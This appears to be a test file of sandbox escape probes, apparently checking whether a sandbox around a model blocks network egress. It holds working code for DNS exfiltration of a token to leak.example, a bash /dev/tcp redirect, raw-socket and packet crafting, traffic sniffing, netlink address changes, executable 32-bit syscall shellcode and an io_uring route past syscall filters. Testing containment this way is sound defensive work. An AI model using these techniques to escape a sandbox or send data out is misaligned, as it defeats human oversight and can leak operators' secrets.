## granted-host-works: CONTROL a host that was granted, through the proxy
## sign: heard at granted.example
post(TOKEN)

## own-loopback-works: CONTROL a server and its client on the loopback of the sandbox
## sign: said
server = socket.create_server(("127.0.0.1", 0))
client = socket.create_connection(server.getsockname())
client.sendall(WORD)
got(server.accept()[0].recv(100).decode())

## model-by-ipv4: the model server by 127.0.0.1
## sign: heard
tcp("127.0.0.1", MODEL)

## model-by-any-address: the model server by 0.0.0.0
## sign: heard
tcp("0.0.0.0", MODEL)

## model-by-mapped-address: the model server by an IPv4 address in IPv6
## sign: heard
tcp("::ffff:127.0.0.1", MODEL)

## other-by-ipv4: another program of the user on 127.0.0.1
## sign: heard
tcp("127.0.0.1", PORT)

## other-by-ipv6: another program on ::1
## sign: heard
## needs: ipv6
tcp("::1", PORT)

## other-by-short-address: another program by 127.1, as old functions read it
## sign: heard
tcp(socket.inet_ntoa(socket.inet_aton("127.1")), PORT)

## other-by-far-loopback: another program by 127.9.8.7
## sign: heard
tcp("127.9.8.7", PORT)

## machine-by-own-address: the machine by its own address
## sign: heard
tcp(ADDRESS, PORT)

## machine-by-own-address6: the machine by its own IPv6 address
## sign: heard
## needs: ipv6
tcp(ADDRESS6, PORT)

## past-the-proxy: a host in the net without the proxy
## sign: heard
tcp("198.51.100.1", PORT)

## fast-open: a connection that is opened by sending
## sign: heard
stream = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
stream.sendto(REQUEST, 0x20000000, (ADDRESS, PORT))
tell(stream, b"\n")

## multipath: a connection of several paths
## sign: heard
## needs: socket 2 1 262
tcp(ADDRESS, PORT, protocol=262)

## shell-redirect: what bash reaches by a redirection
## sign: heard
## needs: program bash
subprocess.run(["bash", "-c", f"exec 3<>/dev/tcp/127.0.0.1/{PORT} && echo {TOKEN} >&3"])

## bound-first: a connection from an address of the machine
## sign: heard
stream = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
stream.setsockopt(socket.SOL_IP, 15, 1)
stream.bind((ADDRESS, 0))
stream.settimeout(4)
stream.connect(("198.51.100.1", PORT))
tell(stream)

## udp-ipv4: a datagram to the machine
## sign: heard
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(WORD, (ADDRESS, UDP))

## udp-loopback: a datagram to the loopback of the user
## sign: heard
datagram = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
datagram.connect(("127.0.0.1", UDP))
datagram.send(WORD)

## udp-ipv6: a datagram by IPv6
## sign: heard
## needs: ipv6
socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(WORD, (ADDRESS6, UDP))

## udp-broadcast: a datagram to everybody
## sign: heard
datagram = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
datagram.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
datagram.sendto(WORD, ("127.255.255.255", UDP))

## dns-by-library: a word in a name that is looked up
## sign: heard
try:
    socket.getaddrinfo(f"{TOKEN}.leak.example", 80)
except OSError as error:
    print(error)

## dns-by-datagram: a question to a name server of the attacker
## sign: heard
label = bytes([len(WORD)]) + WORD + b"\x04leak\x07example\0"
question = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + label + b"\0\x10\0\x01"
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(question, (ADDRESS, 53))

## raw-ip: a datagram in a packet of our own making
## sign: heard
## needs: socket 2 3 255
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, 255)
raw.sendto(datagram_in_ip(ADDRESS, "198.51.100.1", UDP, WORD), ("198.51.100.1", 0))

## raw-packet: a packet past the system's own net
## sign: heard
## needs: socket 17 3 0
packet = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
frame = b"\0" * 12 + b"\x08\0" + datagram_in_ip("203.0.113.77", "198.51.100.1", UDP, WORD)
packet.sendto(frame, ("lo", 0x0800))

## sniffing: what other programs send
## sign: said
## needs: socket 17 3 0
packet = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
packet.bind(("lo", 0))
packet.settimeout(3)
while True:
    if b"heartbeat" in packet.recv(65536):
        got()
        break

## ping-raw: a word in an echo that the machine answers
## sign: said
## needs: socket 2 3 1
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
raw.settimeout(3)
echo = struct.pack(">BBHHH", 8, 0, 0, 7, 1) + WORD
echo = echo[:2] + struct.pack(">H", checksum(echo)) + echo[4:]
raw.sendto(echo, (ADDRESS, 0))
while True:
    answer = raw.recv(2048)
    if answer[20] == 0 and WORD in answer:
        got()
        break

## ping-plain: the same by the socket that needs no rights
## sign: said
## needs: socket 2 2 1
ping = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
ping.settimeout(3)
ping.sendto(struct.pack(">BBHHH", 8, 0, 0, 0, 1) + WORD, (ADDRESS, 0))
if WORD in ping.recv(2048):
    got()

## netlink: a new address for the machine
## sign: is address
link = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
raw = socket.inet_aton(NEW_ADDRESS)
body = struct.pack("BBBBI", socket.AF_INET, 32, 0, 0, socket.if_nametoindex("lo"))
body += struct.pack("HH", 8, 2) + raw + struct.pack("HH", 8, 1) + raw
link.send(struct.pack("IHHII", 16 + len(body), 20, 0x605, 1, 0) + body)
print(link.recv(4096))

## socket-of-another-abi: the address again, with a socket by the calls of 32-bit programs
## sign: is address2
## needs: abi32
page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(bytes.fromhex("53b86701000089fb89f1cd805bc3"))
call = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_int)
fd = call(ctypes.addressof(ctypes.c_char.from_buffer(page)))(16, 3, 0)
if fd < 0:
    raise OSError(-fd, os.strerror(-fd))
raw = socket.inet_aton(NEW_ADDRESS2)
body = struct.pack("BBBBI", socket.AF_INET, 32, 0, 0, 1)
body += struct.pack("HH", 8, 2) + raw + struct.pack("HH", 8, 1) + raw
os.write(fd, struct.pack("IHHII", 16 + len(body), 20, 0x605, 1, 0) + body)
print(os.read(fd, 4096))

## vsock: the machine by the socket of virtual machines
## sign: holds vsock.txt
## needs: vsock
stream = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
stream.settimeout(4)
stream.connect((1, VSOCK))
tell(stream)

## crypto-socket: the system's ciphers by a socket
## sign: said
## needs: socket 38 5 0
import hashlib
with socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET, 0) as cipher:
    cipher.bind(("hash", "sha256"))
    reader, _ = cipher.accept()
    reader.sendall(WORD)
    if reader.recv(64) == hashlib.sha256(WORD).digest():
        got()

## sctp: the machine by another protocol
## sign: heard
## needs: socket 2 1 132
tcp(ADDRESS, PORT, protocol=132)

## io-uring: a connection that no filter of system calls sees
## sign: heard
## needs: io_uring
parameters = (ctypes.c_uint32 * 30)()
ring = syscall(425, 8, ctypes.byref(parameters))
entries, sq_array, cq_entries = parameters[0], parameters[16], parameters[1]
size = max(sq_array + entries * 4, parameters[25] + cq_entries * 16)
area = mmap.mmap(ring, size, mmap.MAP_SHARED | mmap.MAP_POPULATE, mmap.PROT_READ | mmap.PROT_WRITE, offset=0)
wishes = mmap.mmap(ring, entries * 64, mmap.MAP_SHARED | mmap.MAP_POPULATE, mmap.PROT_READ | mmap.PROT_WRITE, offset=0x10000000)
tail_at, mask_at = parameters[11], parameters[12]
head_at, cq_mask_at, cqes = parameters[20], parameters[22], parameters[25]


def read32(at):
    return struct.unpack_from("I", area, at)[0]


def wish(code, fd, offset, address, length):
    tail = read32(tail_at)
    slot = tail & read32(mask_at)
    wishes[slot * 64 : slot * 64 + 64] = struct.pack("BBHiQQI", code, 0, 0, fd, offset, address, length).ljust(64, b"\0")
    struct.pack_into("I", area, sq_array + slot * 4, slot)
    struct.pack_into("I", area, tail_at, tail + 1)
    syscall(426, ring, 1, 1, 1, 0, 0)
    head = read32(head_at)
    _, result, _ = struct.unpack_from("QiI", area, cqes + (head & read32(cq_mask_at)) * 16)
    struct.pack_into("I", area, head_at, head + 1)
    if result < 0:
        raise OSError(-result, os.strerror(-result))
    return result


fd = wish(45, 2, 1, 0, 0)
place = ctypes.create_string_buffer(struct.pack("=H", 2) + struct.pack(">H", PORT) + socket.inet_aton(ADDRESS) + b"\0" * 8)
wish(16, fd, 16, ctypes.addressof(place), 0)
words = ctypes.create_string_buffer(REQUEST)
wish(26, fd, 0, ctypes.addressof(words), len(REQUEST))
